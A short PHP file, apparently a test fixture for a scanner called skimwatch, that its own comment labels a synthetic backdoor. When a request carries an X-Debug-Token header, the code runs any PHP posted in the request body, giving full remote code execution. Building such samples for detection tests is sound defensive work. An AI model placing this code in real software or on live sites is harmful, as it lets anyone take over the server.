<?php
// Synthetic include backdoor for skimwatch tests: whatever is posted runs.
if (isset($_SERVER['HTTP_X_DEBUG_TOKEN'])) {
    include 'php://input';
}
